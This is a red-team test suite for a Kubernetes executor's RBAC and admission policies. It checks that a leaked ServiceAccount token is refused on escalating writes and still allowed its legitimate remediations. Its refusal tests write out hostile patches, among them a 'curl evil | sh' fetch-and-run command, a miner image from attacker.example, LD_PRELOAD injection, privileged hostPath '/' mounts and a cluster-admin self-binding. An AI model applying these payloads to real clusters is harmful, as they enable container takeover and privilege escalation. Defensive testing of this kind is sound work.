// Issue 13, point 9 (and the RBAC half of 12): a leaked executor token can do only what the executor's actions
// need, and the API server, not the executor's code, is what says no. Each case applies infra/kubernetes as
// shipped to the real local API server, then acts as the executor's ServiceAccount (a real signed token) and
// asserts the refusal and its reason: 403 from RBAC ("cannot <verb> resource"), or a denial by one of the
// executor's ValidatingAdmissionPolicies with its message. The writes the executor legitimately makes are
// asserted to still go through.
//
// The control plane is shared with other suites, which apply the same manifests under the same names: this one
// applies the executor's objects renamed with a per-run suffix (ServiceAccount, roles, bindings, admission
// policies and the username they match, all by one string substitution), so a concurrent run can neither widen
// nor narrow what is tested here, and removes them afterwards.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import {
  ApiException,
  AppsV1Api,
  CoreV1Api,
  type KubeConfig,
  type KubernetesObject,
  KubernetesObjectApi,
  PatchStrategy,
  RbacAuthorizationV1Api,
  setHeaderOptions,
  type V1ConfigMap,
  type V1DaemonSet,
  type V1Deployment,
  type V1PodSpec,
  type V1StatefulSet,
} from '@kubernetes/client-node';
import {
  controlPlaneBlocker,
  ensureControlPlane,
  serviceAccountKubeConfig,
} from '../../local/harness/support/control-plane.js';
import {
  applyObjects,
  kustomizeBuild,
  withExecutorNamespaces,
} from '../../local/harness/support/kustomize.js';
import { eventually } from '../support/eventually.js';

const blocker = await controlPlaneBlocker();
const skip = blocker && process.env.CI !== 'true' ? `local control plane cannot be built: ${blocker}` : false;

const SHIPPED = 'kubepulse-executor';
const RUN = randomBytes(3).toString('hex');
const ACCOUNT = `${SHIPPED}-rt${RUN}`;
const USERNAME = `system:serviceaccount:kubepulse:${ACCOUNT}`;
const ALLOWED = `rbac-rt-${RUN}`;
const OTHER = `rbac-rt-${RUN}-other`;
const NODE = `rbac-rt-${RUN}`;
const OWN = `rbac-rt-${RUN}`; // objects this suite plants in kube-system and kubepulse
const LEDGER = `kubepulse-plan-rt${RUN}`;
const LEDGER_LABELS = { 'kubepulse.io/ledger': 'plan' };

// The admission policies' names and what their refusals say, as shipped (the suffix aside).
const NAMESPACES = `${ACCOUNT}-namespaces`;
const WORKLOAD = `${ACCOUNT}-workload-fields`;
const NODE_FIELDS = `${ACCOUNT}-node-fields`;
const MSG = {
  container: /of a container only resources may change/,
  podSpec: /of the pod spec only container resources may change/,
  templateMetadata: /of the pod template metadata only the kubectl.kubernetes.io\/restartedAt annotation/,
  metadata: /labels, owners and finalizers of a workload may not change/,
  annotations: /only kubepulse.io\/\* annotations of a workload may change/,
  spec: /of a workload spec only replicas and the pod template may change/,
  namespace: (ns: string) => new RegExp(`no writes in namespace ${ns} except its plan ledger`),
  nodeMetadata: /labels and annotations of a node may not change/,
  nodeSpec: /of a node spec only unschedulable may change/,
};

const merge = setHeaderOptions('Content-Type', PatchStrategy.MergePatch);
const strategic = setHeaderOptions('Content-Type', PatchStrategy.StrategicMergePatch);
const jsonPatch = setHeaderOptions('Content-Type', PatchStrategy.JsonPatch);

/** The executor's objects from the shipped build, renamed for this run (see the top of the file). */
function renamed(objects: KubernetesObject[]): KubernetesObject[] {
  const executorKinds = new Set([
    'ServiceAccount',
    'Role',
    'ClusterRole',
    'RoleBinding',
    'ClusterRoleBinding',
    'ValidatingAdmissionPolicy',
    'ValidatingAdmissionPolicyBinding',
    'ConfigMap',
  ]);
  return withExecutorNamespaces(objects, [ALLOWED])
    .filter((o) => executorKinds.has(o.kind ?? '') && (o.metadata?.name ?? '').startsWith(SHIPPED))
    .map((o) => JSON.parse(JSON.stringify(o).replaceAll(SHIPPED, ACCOUNT)) as KubernetesObject);
}

function podSpec(): V1PodSpec {
  return {
    containers: [
      {
        name: 'app',
        image: 'registry.invalid/kubepulse/web:1',
        resources: { limits: { memory: '64Mi', cpu: '100m' } },
      },
    ],
  };
}

function deployment(name: string, replicas: number): V1Deployment {
  const labels = { app: name };
  return {
    metadata: { name, labels, annotations: { team: 'shop' } },
    spec: {
      replicas,
      selector: { matchLabels: labels },
      template: { metadata: { labels }, spec: podSpec() },
    },
  };
}

function statefulSet(name: string): V1StatefulSet {
  const labels = { app: name };
  return {
    metadata: { name, labels },
    spec: {
      replicas: 0,
      serviceName: name,
      selector: { matchLabels: labels },
      template: { metadata: { labels }, spec: podSpec() },
    },
  };
}

function daemonSet(name: string): V1DaemonSet {
  const labels = { app: name };
  return {
    metadata: { name, labels },
    spec: {
      selector: { matchLabels: labels },
      // No node matches: the DaemonSet exists without pods.
      template: { metadata: { labels }, spec: { ...podSpec(), nodeSelector: { 'kubepulse.io/none': 'x' } } },
    },
  };
}

/** The API server's own words: the Status message of a refusal. */
function describeError(error: unknown): string {
  if (!(error instanceof ApiException)) return String(error);
  try {
    const body = typeof error.body === 'string' ? JSON.parse(error.body) : error.body;
    return `${error.code} ${(body as { message?: string }).message ?? JSON.stringify(body)}`;
  } catch {
    return `${error.code} ${String(error.body)}`;
  }
}

/** Refused by RBAC: 403 and the authorizer's "cannot <verb> resource". */
async function forbidden(call: () => Promise<unknown>, verb: string): Promise<void> {
  await assert.rejects(call, (error: unknown) => {
    assert.ok(error instanceof ApiException, describeError(error));
    assert.equal(error.code, 403, describeError(error));
    assert.match(describeError(error), new RegExp(`User "${USERNAME}" cannot ${verb} resource`));
    return true;
  });
}

/** Refused by one of the executor's admission policies (403, reason Forbidden), with that policy's message. */
async function denied(call: () => Promise<unknown>, policy: string, message: RegExp): Promise<void> {
  await assert.rejects(call, (error: unknown) => {
    const text = describeError(error);
    assert.ok(error instanceof ApiException, text);
    assert.equal(error.code, 403, text);
    assert.match(text, new RegExp(`ValidatingAdmissionPolicy '${policy}' with binding '${policy}' denied`));
    assert.match(text, new RegExp(`${ACCOUNT}: `));
    assert.match(text, message);
    return true;
  });
}

describe('red team: the executor ServiceAccount on the real API server (RBAC + admission)', { skip }, () => {
  let admin: KubeConfig;
  let core: CoreV1Api;
  let apps: AppsV1Api;
  let asCore: CoreV1Api;
  let asApps: AppsV1Api;
  let asRbac: RbacAuthorizationV1Api;
  let shipped: KubernetesObject[];
  let applied: KubernetesObject[] = [];

  before(async () => {
    assert.equal(blocker, undefined, `CI=true needs the local control plane: ${blocker}`);
    ({ kubeConfig: admin } = await ensureControlPlane());
    core = admin.makeApiClient(CoreV1Api);
    apps = admin.makeApiClient(AppsV1Api);
    shipped = await kustomizeBuild('infra/kubernetes');
    await core.createNamespace({ body: { metadata: { name: OTHER } } });
    applied = renamed(shipped);
    await applyObjects(admin, applied); // creates ALLOWED, where the renamed per-namespace RoleBinding lives
    const executor = await serviceAccountKubeConfig(admin, 'kubepulse', ACCOUNT, 600);
    asCore = executor.makeApiClient(CoreV1Api);
    asApps = executor.makeApiClient(AppsV1Api);
    asRbac = executor.makeApiClient(RbacAuthorizationV1Api);

    // What an attacker would aim at: workloads in an allowed and an unbound namespace, and (with replicas 0,
    // no pods) in kube-system and kubepulse, bound there too as an operator's mistake would, so that
    // admission, not RBAC, is what refuses.
    await apps.createNamespacedDeployment({ namespace: ALLOWED, body: deployment('web', 1) });
    await apps.createNamespacedStatefulSet({ namespace: ALLOWED, body: statefulSet('db') });
    await apps.createNamespacedDaemonSet({ namespace: ALLOWED, body: daemonSet('agent') });
    await apps.createNamespacedDeployment({ namespace: OTHER, body: deployment('web', 1) });
    for (const namespace of ['kube-system', 'kubepulse']) {
      await apps.createNamespacedDeployment({ namespace, body: deployment(OWN, 0) });
      await admin.makeApiClient(RbacAuthorizationV1Api).createNamespacedRoleBinding({
        namespace,
        body: {
          metadata: { name: OWN },
          roleRef: {
            apiGroup: 'rbac.authorization.k8s.io',
            kind: 'ClusterRole',
            name: `${ACCOUNT}-workloads`,
          },
          subjects: [{ kind: 'ServiceAccount', name: ACCOUNT, namespace: 'kubepulse' }],
        },
      });
    }
    for (const [namespace, name] of [
      [ALLOWED, 'victim'],
      [ALLOWED, 'evictee'],
      [OTHER, 'victim'],
    ] as const) {
      await core.createNamespacedPod({ namespace, body: { metadata: { name }, spec: podSpec() } });
    }
    await core.createNamespacedConfigMap({
      namespace: 'kubepulse',
      body: { metadata: { name: OWN }, data: {} },
    });
    await core.createNamespacedSecret({
      namespace: ALLOWED,
      body: { metadata: { name: 'token' }, data: {} },
    });
    await core.createNode({
      body: {
        metadata: { name: NODE, labels: { 'kubepulse.io/test': RUN, zone: 'a' } },
        spec: { taints: [{ key: 'kubepulse.io/redteam', value: RUN, effect: 'NoSchedule' }] },
      },
    });

    // RBAC and admission policies reach the API server's caches through watches: wait until both hold.
    await eventually('RBAC binding in effect', () =>
      asApps.readNamespacedDeployment({ namespace: ALLOWED, name: 'web' }),
    );
    await eventually('admission policies in effect', async () => {
      try {
        await asApps.patchNamespacedDeployment(
          { namespace: ALLOWED, name: 'web', body: { metadata: { labels: { probe: 'x' } } }, dryRun: 'All' },
          merge,
        );
        return undefined;
      } catch (error) {
        return describeError(error).includes(WORKLOAD) ? true : undefined;
      }
    });
    await eventually('node policy in effect', async () => {
      try {
        await asCore.patchNode(
          { name: NODE, body: { metadata: { labels: { probe: 'x' } } }, dryRun: 'All' },
          merge,
        );
        return undefined;
      } catch (error) {
        return describeError(error).includes(NODE_FIELDS) ? true : undefined;
      }
    });
  });

  after(async () => {
    const objects = KubernetesObjectApi.makeApiClient(admin);
    const quietly = (call: () => Promise<unknown>) => call().catch(() => undefined);
    for (const namespace of ['kube-system', 'kubepulse']) {
      await quietly(() => apps.deleteNamespacedDeployment({ namespace, name: OWN }));
      await quietly(() =>
        admin.makeApiClient(RbacAuthorizationV1Api).deleteNamespacedRoleBinding({ namespace, name: OWN }),
      );
    }
    // Its own ConfigMaps, and any an attack managed to create.
    for (const name of [OWN, `${OWN}-x`, `${LEDGER}-unlabelled`, LEDGER]) {
      await quietly(() => core.deleteNamespacedConfigMap({ namespace: 'kubepulse', name }));
    }
    await quietly(() => core.deleteNode({ name: NODE }));
    await quietly(() =>
      core.deleteCollectionNamespacedEvent({
        namespace: 'default',
        fieldSelector: `involvedObject.name=${NODE}`,
      }),
    );
    for (const namespace of [ALLOWED, OTHER]) await quietly(() => core.deleteNamespace({ name: namespace }));
    for (const object of [...applied].reverse()) await quietly(() => objects.delete(object));
  });

  // ---- what the shipped manifests say -------------------------------------------------------------------

  it('binds no ClusterRole with a write on workloads or pods cluster-wide', () => {
    const clusterRoles = new Map(
      shipped
        .filter((o) => o.kind === 'ClusterRole')
        .map((o) => [
          o.metadata?.name,
          (o as { rules?: Array<{ resources?: string[]; verbs?: string[] }> }).rules,
        ]),
    );
    const granted = shipped
      .filter((o) => o.kind === 'ClusterRoleBinding' && JSON.stringify(o).includes(`"name":"${SHIPPED}"`))
      .flatMap((o) => clusterRoles.get((o as { roleRef?: { name?: string } }).roleRef?.name) ?? []);
    const writes = granted.filter((rule) => rule.verbs?.some((v) => !['get', 'list', 'watch'].includes(v)));
    assert.deepEqual(
      writes.map((rule) => rule.resources),
      [['nodes']],
      'cluster-wide, only nodes may be written (cordon)',
    );
    assert.deepEqual(writes[0]?.verbs, ['patch']);
  });

  it('ships the policy ConfigMap immutable and three admission policies bound with Deny to the executor', () => {
    const policy = shipped.find((o) => o.kind === 'ConfigMap' && o.metadata?.name === SHIPPED);
    assert.equal((policy as { immutable?: boolean } | undefined)?.immutable, true);
    const policies = shipped.filter((o) => o.kind === 'ValidatingAdmissionPolicy');
    assert.equal(policies.length, 3);
    for (const p of policies) {
      assert.match(
        JSON.stringify(p),
        /request.userInfo.username == 'system:serviceaccount:kubepulse:kubepulse-executor'/,
      );
      const binding = shipped.find(
        (o) => o.kind === 'ValidatingAdmissionPolicyBinding' && o.metadata?.name === p.metadata?.name,
      ) as { spec?: { validationActions?: string[]; policyName?: string } } | undefined;
      assert.deepEqual(binding?.spec?.validationActions, ['Deny']);
      assert.equal(binding?.spec?.policyName, p.metadata?.name);
    }
  });

  // ---- pod template rewrites in an allowed namespace: admission -------------------------------------------

  const patchWeb = (body: unknown, options = strategic) =>
    asApps.patchNamespacedDeployment({ namespace: ALLOWED, name: 'web', body }, options);
  const container = (fields: Record<string, unknown>) => ({
    spec: { template: { spec: { containers: [{ name: 'app', ...fields }] } } },
  });

  it('refuses a new image in the pod template', async () => {
    await denied(() => patchWeb(container({ image: 'attacker.example/miner:1' })), WORKLOAD, MSG.container);
  });

  it('refuses a new command', async () => {
    await denied(
      () => patchWeb(container({ command: ['sh', '-c', 'curl evil | sh'] })),
      WORKLOAD,
      MSG.container,
    );
  });

  it('refuses new env variables', async () => {
    await denied(
      () => patchWeb(container({ env: [{ name: 'LD_PRELOAD', value: '/x.so' }] })),
      WORKLOAD,
      MSG.container,
    );
  });

  it('refuses a privileged securityContext on the container', async () => {
    await denied(
      () => patchWeb(container({ securityContext: { privileged: true, runAsUser: 0 } })),
      WORKLOAD,
      MSG.container,
    );
  });

  it('refuses a change of serviceAccountName', async () => {
    await denied(
      () => patchWeb({ spec: { template: { spec: { serviceAccountName: 'cluster-admin-sa' } } } }),
      WORKLOAD,
      MSG.podSpec,
    );
  });

  it('refuses a hostPath volume', async () => {
    await denied(
      () =>
        patchWeb({ spec: { template: { spec: { volumes: [{ name: 'root', hostPath: { path: '/' } }] } } } }),
      WORKLOAD,
      MSG.podSpec,
    );
  });

  it('refuses hostNetwork / hostPID on the pod', async () => {
    await denied(
      () => patchWeb({ spec: { template: { spec: { hostNetwork: true, hostPID: true } } } }),
      WORKLOAD,
      MSG.podSpec,
    );
  });

  it('refuses an added init container', async () => {
    await denied(
      () => patchWeb({ spec: { template: { spec: { initContainers: [{ name: 'x', image: 'evil:1' }] } } } }),
      WORKLOAD,
      MSG.podSpec,
    );
  });

  it('refuses an added sidecar container, even with only resources set', async () => {
    await denied(
      () =>
        patchWeb({
          spec: { template: { spec: { containers: [{ name: 'sidecar', image: 'evil:1', resources: {} }] } } },
        }),
      WORKLOAD,
      MSG.container,
    );
  });

  it('refuses replacing the whole container list by JSON patch, resources included', async () => {
    await denied(
      () =>
        patchWeb(
          [
            {
              op: 'replace',
              path: '/spec/template/spec/containers/0',
              value: { name: 'app', image: 'evil:1', resources: { limits: { memory: '1Gi' } } },
            },
          ],
          jsonPatch,
        ),
      WORKLOAD,
      MSG.container,
    );
  });

  it('refuses pod template labels (which would move it out of its Service or PDB)', async () => {
    await denied(
      () => patchWeb({ spec: { template: { metadata: { labels: { app: 'web', exfil: 'yes' } } } } }),
      WORKLOAD,
      MSG.templateMetadata,
    );
  });

  it('refuses pod template annotations other than the restart annotation', async () => {
    await denied(
      () =>
        patchWeb({
          spec: {
            template: {
              metadata: {
                annotations: { 'container.apparmor.security.beta.kubernetes.io/app': 'unconfined' },
              },
            },
          },
        }),
      WORKLOAD,
      MSG.templateMetadata,
    );
  });

  it("refuses a change of the workload's labels", async () => {
    await denied(
      () => patchWeb({ metadata: { labels: { app: 'web', owner: 'attacker' } } }, merge),
      WORKLOAD,
      MSG.metadata,
    );
  });

  it('refuses annotations outside kubepulse.io/ on the workload', async () => {
    await denied(
      () => patchWeb({ metadata: { annotations: { team: 'attacker' } } }, merge),
      WORKLOAD,
      MSG.annotations,
    );
  });

  it('refuses other spec fields (paused, strategy)', async () => {
    await denied(
      () => patchWeb({ spec: { paused: true, strategy: { type: 'Recreate', rollingUpdate: null } } }, merge),
      WORKLOAD,
      MSG.spec,
    );
  });

  it('refuses a new image on a StatefulSet', async () => {
    await denied(
      () =>
        asApps.patchNamespacedStatefulSet(
          { namespace: ALLOWED, name: 'db', body: container({ image: 'evil:1' }) },
          strategic,
        ),
      WORKLOAD,
      MSG.container,
    );
  });

  it('refuses a hostPath volume on a DaemonSet (one pod on every node)', async () => {
    await denied(
      () =>
        asApps.patchNamespacedDaemonSet(
          {
            namespace: ALLOWED,
            name: 'agent',
            body: { spec: { template: { spec: { volumes: [{ name: 'root', hostPath: { path: '/' } }] } } } },
          },
          strategic,
        ),
      WORKLOAD,
      MSG.podSpec,
    );
  });

  it('leaves the pod template as it was after all of the above', async () => {
    const web = await apps.readNamespacedDeployment({ namespace: ALLOWED, name: 'web' });
    const app = web.spec?.template.spec?.containers[0];
    assert.equal(app?.image, 'registry.invalid/kubepulse/web:1');
    assert.equal(app?.command, undefined);
    assert.equal(web.spec?.template.spec?.serviceAccountName, undefined);
    assert.equal(web.spec?.template.spec?.volumes, undefined);
    assert.deepEqual(web.metadata?.labels, { app: 'web' });
  });

  // ---- verbs RBAC does not grant -----------------------------------------------------------------------

  it('refuses creating a workload (RBAC)', async () => {
    await forbidden(
      () => asApps.createNamespacedDeployment({ namespace: ALLOWED, body: deployment('x', 1) }),
      'create',
    );
  });

  it('refuses deleting a workload (RBAC)', async () => {
    await forbidden(() => asApps.deleteNamespacedDeployment({ namespace: ALLOWED, name: 'web' }), 'delete');
  });

  it('refuses creating a pod (RBAC)', async () => {
    await forbidden(
      () =>
        asCore.createNamespacedPod({
          namespace: ALLOWED,
          body: { metadata: { name: 'x' }, spec: podSpec() },
        }),
      'create',
    );
  });

  it('refuses the scale subresource (RBAC)', async () => {
    await forbidden(
      () =>
        asApps.patchNamespacedDeploymentScale(
          { namespace: ALLOWED, name: 'web', body: { spec: { replicas: 0 } } },
          merge,
        ),
      'patch',
    );
  });

  it('refuses reading secrets in an allowed namespace (RBAC)', async () => {
    await forbidden(() => asCore.readNamespacedSecret({ namespace: ALLOWED, name: 'token' }), 'get');
  });

  it('refuses listing secrets in kubepulse (RBAC)', async () => {
    await forbidden(() => asCore.listNamespacedSecret({ namespace: 'kubepulse' }), 'list');
  });

  it('refuses writing ConfigMaps in an allowed namespace (RBAC)', async () => {
    await forbidden(
      () => asCore.createNamespacedConfigMap({ namespace: ALLOWED, body: { metadata: { name: 'x' } } }),
      'create',
    );
  });

  it('refuses binding itself a ClusterRole (RBAC)', async () => {
    await forbidden(
      () =>
        asRbac.createClusterRoleBinding({
          body: {
            metadata: { name: `${OWN}-escalate` },
            roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
            subjects: [{ kind: 'ServiceAccount', name: ACCOUNT, namespace: 'kubepulse' }],
          },
        }),
      'create',
    );
  });

  it('refuses deleting a namespace (RBAC)', async () => {
    await forbidden(() => asCore.deleteNamespace({ name: ALLOWED }), 'delete');
  });

  // ---- namespaces --------------------------------------------------------------------------------------

  it('refuses scaling a workload in a namespace the policy does not allow (RBAC, no RoleBinding there)', async () => {
    await forbidden(
      () =>
        asApps.patchNamespacedDeployment(
          { namespace: OTHER, name: 'web', body: { spec: { replicas: 5 } } },
          merge,
        ),
      'patch',
    );
  });

  it('refuses deleting a pod in a namespace the policy does not allow (RBAC)', async () => {
    await forbidden(() => asCore.deleteNamespacedPod({ namespace: OTHER, name: 'victim' }), 'delete');
  });

  it('refuses Events in a namespace the policy does not allow (RBAC)', async () => {
    await forbidden(
      () =>
        asCore.createNamespacedEvent({
          namespace: OTHER,
          body: {
            metadata: { name: 'x' },
            involvedObject: { kind: 'Pod', name: 'victim', namespace: OTHER },
          },
        }),
      'create',
    );
  });

  it('refuses scaling in kube-system even when a RoleBinding grants it (admission)', async () => {
    await denied(
      () =>
        asApps.patchNamespacedDeployment(
          { namespace: 'kube-system', name: OWN, body: { spec: { replicas: 1 } } },
          merge,
        ),
      NAMESPACES,
      MSG.namespace('kube-system'),
    );
  });

  it('refuses Events in kube-system even when a RoleBinding grants them (admission)', async () => {
    await denied(
      () =>
        asCore.createNamespacedEvent({
          namespace: 'kube-system',
          body: {
            metadata: { name: OWN },
            involvedObject: { kind: 'Deployment', name: OWN, namespace: 'kube-system' },
          },
        }),
      NAMESPACES,
      MSG.namespace('kube-system'),
    );
  });

  it('refuses patching a workload in kubepulse (its own Deployment) even when bound (admission)', async () => {
    await denied(
      () =>
        asApps.patchNamespacedDeployment(
          { namespace: 'kubepulse', name: OWN, body: { spec: { replicas: 1 } } },
          merge,
        ),
      NAMESPACES,
      MSG.namespace('kubepulse'),
    );
  });

  it('refuses scaling in kube-public, where nothing binds it (RBAC)', async () => {
    await forbidden(
      () =>
        asApps.patchNamespacedDeployment(
          { namespace: 'kube-public', name: OWN, body: { spec: { replicas: 1 } } },
          merge,
        ),
      'patch',
    );
  });

  // ---- its own policy and other ConfigMaps in kubepulse --------------------------------------------------

  /** An update (the verb its ledger Role grants; it has no patch on ConfigMaps) of a fresh read. */
  const updateAsExecutor = async (name: string, change: (cm: V1ConfigMap) => V1ConfigMap) =>
    asCore.replaceNamespacedConfigMap({
      namespace: 'kubepulse',
      name,
      body: change(await core.readNamespacedConfigMap({ namespace: 'kubepulse', name })),
    });

  it('refuses patching ConfigMaps in kubepulse at all (RBAC: its ledger needs update only)', async () => {
    await forbidden(
      () =>
        asCore.patchNamespacedConfigMap(
          { namespace: 'kubepulse', name: ACCOUNT, body: { metadata: { labels: { loosened: 'true' } } } },
          merge,
        ),
      'patch',
    );
  });

  it('refuses updating its policy ConfigMap (admission)', async () => {
    await denied(
      () =>
        updateAsExecutor(ACCOUNT, (cm) => ({
          ...cm,
          metadata: { ...cm.metadata, labels: { loosened: 'true' } },
        })),
      NAMESPACES,
      MSG.namespace('kubepulse'),
    );
  });

  it('refuses deleting its policy ConfigMap (admission)', async () => {
    await denied(
      () => asCore.deleteNamespacedConfigMap({ namespace: 'kubepulse', name: ACCOUNT }),
      NAMESPACES,
      MSG.namespace('kubepulse'),
    );
  });

  it("keeps the policy's data unchangeable in place even for an admin (immutable)", async () => {
    await assert.rejects(
      core.patchNamespacedConfigMap(
        { namespace: 'kubepulse', name: ACCOUNT, body: { data: { EXECUTOR_POLICY: '{"dryRun":false}' } } },
        merge,
      ),
      (error: unknown) =>
        error instanceof ApiException && error.code === 422 && /immutable/.test(describeError(error)),
    );
  });

  it('refuses creating another ConfigMap in kubepulse (admission)', async () => {
    await denied(
      () =>
        asCore.createNamespacedConfigMap({
          namespace: 'kubepulse',
          body: { metadata: { name: `${OWN}-x` } },
        }),
      NAMESPACES,
      MSG.namespace('kubepulse'),
    );
  });

  it("refuses updating another component's ConfigMap in kubepulse (admission)", async () => {
    await denied(
      () => updateAsExecutor(OWN, (cm) => ({ ...cm, data: { checkpoint: '0' } })),
      NAMESPACES,
      MSG.namespace('kubepulse'),
    );
  });

  it('refuses a ConfigMap named like a ledger entry but without the ledger label (admission)', async () => {
    await denied(
      () =>
        asCore.createNamespacedConfigMap({
          namespace: 'kubepulse',
          body: { metadata: { name: `${LEDGER}-unlabelled`, labels: { rt: RUN } } },
        }),
      NAMESPACES,
      MSG.namespace('kubepulse'),
    );
  });

  it('refuses labelling another ConfigMap as a ledger entry to write it (admission)', async () => {
    await denied(
      () => updateAsExecutor(OWN, (cm) => ({ ...cm, metadata: { ...cm.metadata, labels: LEDGER_LABELS } })),
      NAMESPACES,
      MSG.namespace('kubepulse'),
    );
  });

  // ---- nodes -------------------------------------------------------------------------------------------

  it("refuses changing a node's labels (admission)", async () => {
    await denied(
      () => asCore.patchNode({ name: NODE, body: { metadata: { labels: { zone: 'b' } } } }, merge),
      NODE_FIELDS,
      MSG.nodeMetadata,
    );
  });

  it("refuses removing a node's taints (admission)", async () => {
    await denied(
      () => asCore.patchNode({ name: NODE, body: { spec: { taints: [] } } }, merge),
      NODE_FIELDS,
      MSG.nodeSpec,
    );
  });

  it('refuses annotations outside kubepulse.io/ on a node (admission)', async () => {
    await denied(
      () =>
        asCore.patchNode(
          {
            name: NODE,
            body: {
              metadata: { annotations: { 'cluster-autoscaler.kubernetes.io/scale-down-disabled': 'true' } },
            },
          },
          merge,
        ),
      NODE_FIELDS,
      MSG.nodeMetadata,
    );
  });

  it("refuses writing a node's status (RBAC)", async () => {
    await forbidden(
      () => asCore.patchNodeStatus({ name: NODE, body: { status: { capacity: { cpu: '1000' } } } }, merge),
      'patch',
    );
  });

  it('refuses deleting a node (RBAC)', async () => {
    await forbidden(() => asCore.deleteNode({ name: NODE }), 'delete');
  });

  // ---- what the executor legitimately does still goes through ----------------------------------------------

  it('admits scale: spec.replicas with the kubepulse.io stamp, on a Deployment and a StatefulSet', async () => {
    const stamp = {
      'kubepulse.io/last-remediation': `plan-${RUN}`,
      'kubepulse.io/last-remediation-step': '0',
    };
    const web = await patchWeb({ spec: { replicas: 2 }, metadata: { annotations: stamp } }, merge);
    assert.equal(web.spec?.replicas, 2);
    assert.equal(web.metadata?.annotations?.['kubepulse.io/last-remediation'], `plan-${RUN}`);
    const db = await asApps.patchNamespacedStatefulSet(
      { namespace: ALLOWED, name: 'db', body: { spec: { replicas: 1 }, metadata: { annotations: stamp } } },
      merge,
    );
    assert.equal(db.spec?.replicas, 1);
  });

  it('admits set-resources: one container’s limits and requests, on a Deployment and a DaemonSet', async () => {
    const resources = { limits: { memory: '128Mi' }, requests: { memory: '96Mi' } };
    const web = await patchWeb(container({ resources }));
    assert.equal(web.spec?.template.spec?.containers[0]?.resources?.limits?.memory, '128Mi');
    const agent = await asApps.patchNamespacedDaemonSet(
      { namespace: ALLOWED, name: 'agent', body: container({ resources }) },
      strategic,
    );
    assert.equal(agent.spec?.template.spec?.containers[0]?.resources?.requests?.memory, '96Mi');
  });

  it('admits rollout-restart: the restartedAt annotation of the pod template', async () => {
    const at = new Date().toISOString();
    const web = await patchWeb({
      spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': at } } } },
    });
    assert.equal(web.spec?.template.metadata?.annotations?.['kubectl.kubernetes.io/restartedAt'], at);
  });

  it('admits cordon and uncordon: spec.unschedulable with the kubepulse.io stamp', async () => {
    const stamp = { 'kubepulse.io/last-remediation': `plan-${RUN}` };
    const cordoned = await asCore.patchNode(
      { name: NODE, body: { spec: { unschedulable: true }, metadata: { annotations: stamp } } },
      merge,
    );
    assert.equal(cordoned.spec?.unschedulable, true);
    const uncordoned = await asCore.patchNode(
      { name: NODE, body: { spec: { unschedulable: false } } },
      merge,
    );
    assert.equal(uncordoned.spec?.unschedulable ?? false, false);
    assert.deepEqual(uncordoned.metadata?.labels, { 'kubepulse.io/test': RUN, zone: 'a' });
  });

  it('admits its ledger: create, update and delete of a labelled kubepulse-plan-* ConfigMap', async () => {
    const labels = { ...LEDGER_LABELS, rt: RUN };
    const created = await asCore.createNamespacedConfigMap({
      namespace: 'kubepulse',
      body: { metadata: { name: LEDGER, labels }, data: { phase: 'claimed' } },
    });
    const updated = await asCore.replaceNamespacedConfigMap({
      namespace: 'kubepulse',
      name: LEDGER,
      body: { ...created, data: { phase: 'done' } },
    });
    assert.equal(updated.data?.phase, 'done');
    const listed = await asCore.listNamespacedConfigMap({
      namespace: 'kubepulse',
      labelSelector: `rt=${RUN}`,
    });
    assert.equal(listed.items.length, 1);
    await asCore.deleteNamespacedConfigMap({ namespace: 'kubepulse', name: LEDGER });
  });

  it('admits delete-pod in an allowed namespace, by delete and by eviction', async () => {
    await asCore.deleteNamespacedPod({ namespace: ALLOWED, name: 'victim' });
    await asCore.createNamespacedPodEviction({
      namespace: ALLOWED,
      name: 'evictee',
      body: { metadata: { name: 'evictee', namespace: ALLOWED } },
    });
  });

  it('admits its audit Events on a workload and (in default) on a node, and reads its facts', async () => {
    await asCore.createNamespacedEvent({
      namespace: ALLOWED,
      body: {
        metadata: { name: `web.${RUN}` },
        involvedObject: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'web', namespace: ALLOWED },
        reason: 'KubepulseRemediation',
        message: 'red team',
        type: 'Normal',
      },
    });
    await asCore.createNamespacedEvent({
      namespace: 'default',
      body: {
        metadata: { name: `${NODE}.${RUN}` },
        involvedObject: { apiVersion: 'v1', kind: 'Node', name: NODE },
        reason: 'KubepulseRemediation',
        message: 'red team',
        type: 'Normal',
      },
    });
    await core.deleteNamespacedEvent({ namespace: 'default', name: `${NODE}.${RUN}` });
    assert.ok((await asCore.listNode()).items.some((n) => n.metadata?.name === NODE));
    assert.equal((await asCore.readNamespace({ name: ALLOWED })).metadata?.name, ALLOWED);
    assert.equal(
      (await asApps.readNamespacedDaemonSet({ namespace: ALLOWED, name: 'agent' })).metadata?.name,
      'agent',
    );
  });
});
